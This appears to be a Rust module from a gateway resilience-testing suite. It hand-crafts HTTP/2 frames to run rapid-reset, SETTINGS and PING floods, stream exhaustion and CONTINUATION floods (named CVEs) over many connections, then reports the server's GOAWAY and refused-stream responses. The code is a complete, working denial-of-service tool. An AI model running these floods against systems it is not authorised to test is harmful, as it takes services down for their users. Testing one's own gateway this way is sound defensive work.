//! HTTP/2 written by hand, to misbehave in ways a client library will not: `--conns` connections
//! (prior-knowledge h2c) each repeat one attack for `--duration`, and open a fresh connection
//! whenever the server closes theirs. Every frame the server sends back is read and counted, so
//! the report says how the gateway defended itself (GOAWAY and its error code, refused streams).
//!
//! Attacks:
//! - `rapid-reset`: a request, then at once its RST_STREAM, over and over (CVE-2023-44487);
//! - `settings`: SETTINGS frames as fast as the socket takes them (CVE-2019-9515);
//! - `ping`: PING frames likewise (CVE-2019-9512);
//! - `streams`: 1,000 requests whose bodies never end, far over the stream limit, held open;
//! - `continuation`: a header block that never ends, CONTINUATION after CONTINUATION
//!   (CVE-2024-27316).

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::Mutex;
use tokio::time::Instant;

use crate::util::{self, Report, Result};

#[derive(clap::Args)]
pub struct Args {
    #[arg(long)]
    addr: std::net::SocketAddr,
    #[arg(long, value_parser = ["rapid-reset", "settings", "ping", "streams", "continuation"])]
    attack: String,
    #[arg(long, default_value_t = 4)]
    conns: usize,
    #[arg(long, default_value = "5s", value_parser = util::duration)]
    duration: Duration,
    /// A valid token, so the attack's requests pass admission and reach the proxy.
    #[arg(long)]
    token: String,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;
const REFUSED_STREAM: u32 = 0x7;

#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    frames_sent: AtomicU64,
    bytes_sent: AtomicU64,
    closed_by_server: AtomicU64,
    goaways: AtomicU64,
    rst_received: AtomicU64,
    rst_refused: AtomicU64,
    responses: AtomicU64,
    pongs_and_acks: AtomicU64,
    goaway_codes: Mutex<Vec<u32>>,
}

pub async fn run(args: Args) -> Result<()> {
    let counts = Arc::new(Counts::default());
    let end = Instant::now() + args.duration;
    let block = Arc::new(request_block(&args.token));
    let tasks: Vec<_> = (0..args.conns)
        .map(|_| {
            let (counts, block, attack) = (counts.clone(), block.clone(), args.attack.clone());
            tokio::spawn(async move {
                while Instant::now() < end {
                    counts.connections.fetch_add(1, Ordering::Relaxed);
                    let attacked = tokio::time::timeout_at(end, attack_once(args.addr, &attack, &block, &counts)).await;
                    if matches!(attacked, Ok(Err(_))) {
                        // Could not even connect; try again shortly.
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        task.await?;
    }
    let load = |a: &AtomicU64| a.load(Ordering::Relaxed);
    let mut codes = counts.goaway_codes.lock().await.clone();
    codes.sort_unstable();
    codes.dedup();
    let codes: Vec<String> = codes.iter().map(|c| format!("0x{c:x}")).collect();
    let mut report = Report::default();
    report
        .add("attack", &args.attack)
        .add("connections", load(&counts.connections))
        .add("frames_sent", load(&counts.frames_sent))
        .add("mb_sent", format!("{:.1}", load(&counts.bytes_sent) as f64 / 1e6))
        .add("closed_by_server", load(&counts.closed_by_server))
        .add("goaways", load(&counts.goaways))
        .add(
            "goaway_codes",
            if codes.is_empty() { "-".into() } else { codes.join(",") },
        )
        .add("rst_received", load(&counts.rst_received))
        .add("rst_refused", load(&counts.rst_refused))
        .add("responses", load(&counts.responses))
        .add("pongs_and_acks", load(&counts.pongs_and_acks));
    report.print();
    Ok(())
}

/// One connection: the preface, then the attack until the server closes it (or the caller's
/// deadline drops this future).
async fn attack_once(addr: std::net::SocketAddr, attack: &str, block: &[u8], counts: &Arc<Counts>) -> Result<()> {
    let stream = TcpStream::connect(addr).await?;
    let _ = stream.set_nodelay(true);
    let (read, mut write) = stream.into_split();
    let reader = tokio::spawn(read_frames(read, counts.clone()));
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    write.write_all(&hello).await?;
    let mut stream_id: u32 = 1;
    let mut batch = Vec::with_capacity(64 * 1024);
    loop {
        if reader.is_finished() {
            break;
        }
        batch.clear();
        let frames = match attack {
            "rapid-reset" => {
                for _ in 0..100 {
                    frame(&mut batch, HEADERS, END_STREAM | END_HEADERS, stream_id, block);
                    frame(&mut batch, RST_STREAM, 0, stream_id, &CANCEL.to_be_bytes());
                    stream_id = next_stream(stream_id);
                }
                200
            }
            "settings" => {
                // SETTINGS_INITIAL_WINDOW_SIZE = 65535: legal, and every one must be acknowledged.
                for _ in 0..1000 {
                    frame(&mut batch, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
                }
                1000
            }
            "ping" => {
                for n in 0..1000u64 {
                    frame(&mut batch, PING, 0, 0, &n.to_be_bytes());
                }
                1000
            }
            "streams" => {
                if stream_id > 2000 {
                    // All 1,000 are open (or refused); hold them until the deadline.
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                }
                for _ in 0..100 {
                    frame(&mut batch, HEADERS, END_HEADERS, stream_id, block);
                    stream_id = next_stream(stream_id);
                }
                100
            }
            _ => {
                if stream_id == 1 {
                    frame(&mut batch, HEADERS, 0, stream_id, block);
                    stream_id = 3;
                }
                // Literal headers with new names, 16 KB per frame, never END_HEADERS.
                let junk = junk_headers(16 * 1024);
                for _ in 0..4 {
                    frame(&mut batch, CONTINUATION, 0, 1, &junk);
                }
                4
            }
        };
        if write.write_all(&batch).await.is_err() {
            break;
        }
        counts.frames_sent.fetch_add(frames, Ordering::Relaxed);
        counts.bytes_sent.fetch_add(batch.len() as u64, Ordering::Relaxed);
    }
    let _ = tokio::time::timeout(Duration::from_secs(2), reader).await;
    Ok(())
}

fn next_stream(id: u32) -> u32 {
    // Client streams are odd; a connection runs out after 2^30 of them.
    if id >= (1 << 31) - 2 { 1 } else { id + 2 }
}

/// Counts what the server sends until it closes the connection.
async fn read_frames(mut read: OwnedReadHalf, counts: Arc<Counts>) {
    let mut buf: Vec<u8> = Vec::with_capacity(64 * 1024);
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        match read.read(&mut chunk).await {
            Ok(0) | Err(_) => {
                counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
                return;
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        let mut at = 0;
        while buf.len() - at >= 9 {
            let len = usize::from(buf[at]) << 16 | usize::from(buf[at + 1]) << 8 | usize::from(buf[at + 2]);
            if buf.len() - at < 9 + len {
                break;
            }
            let kind = buf[at + 3];
            let payload = &buf[at + 9..at + 9 + len];
            count_frame(&counts, kind, buf[at + 4], payload).await;
            at += 9 + len;
        }
        buf.drain(..at);
    }
}

async fn count_frame(counts: &Counts, kind: u8, flags: u8, payload: &[u8]) {
    let code = |at: usize| {
        payload
            .get(at..at + 4)
            .map_or(0, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    };
    match kind {
        GOAWAY => {
            counts.goaways.fetch_add(1, Ordering::Relaxed);
            counts.goaway_codes.lock().await.push(code(4));
        }
        RST_STREAM => {
            counts.rst_received.fetch_add(1, Ordering::Relaxed);
            if code(0) == REFUSED_STREAM {
                counts.rst_refused.fetch_add(1, Ordering::Relaxed);
            }
        }
        HEADERS => {
            counts.responses.fetch_add(1, Ordering::Relaxed);
        }
        SETTINGS | PING if flags & 0x1 == 0x1 => {
            counts.pongs_and_acks.fetch_add(1, Ordering::Relaxed);
        }
        _ => {}
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len();
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET /` with `:authority` and the bearer token, HPACK-encoded without the dynamic table or
/// Huffman coding (each header is self-contained, so the block can be sent on any stream).
fn request_block(token: &str) -> Vec<u8> {
    // :method GET, :scheme http, :path / (static table entries 2, 6, 4).
    let mut block = vec![0x82, 0x86, 0x84];
    // :authority (static name 1), literal without indexing.
    block.push(0x01);
    string(&mut block, b"chaos.test");
    // authorization (static name 23): a 4-bit prefix, so 15 then 8.
    block.extend_from_slice(&[0x0f, 0x08]);
    string(&mut block, format!("Bearer {token}").as_bytes());
    block
}

/// Literal headers with new names (`x-junk-N: ...`), `size` bytes of them.
fn junk_headers(size: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(size + 64);
    let mut n = 0;
    while out.len() < size {
        out.push(0x00);
        string(&mut out, format!("x-junk-{n}").as_bytes());
        string(&mut out, &[b'j'; 100]);
        n += 1;
    }
    out
}

/// An HPACK string literal (no Huffman): a 7-bit-prefix length, then the bytes.
fn string(out: &mut Vec<u8>, bytes: &[u8]) {
    let mut len = bytes.len();
    if len < 127 {
        out.push(len as u8);
    } else {
        out.push(127);
        len -= 127;
        while len >= 128 {
            out.push((len % 128) as u8 | 0x80);
            len /= 128;
        }
        out.push(len as u8);
    }
    out.extend_from_slice(bytes);
}
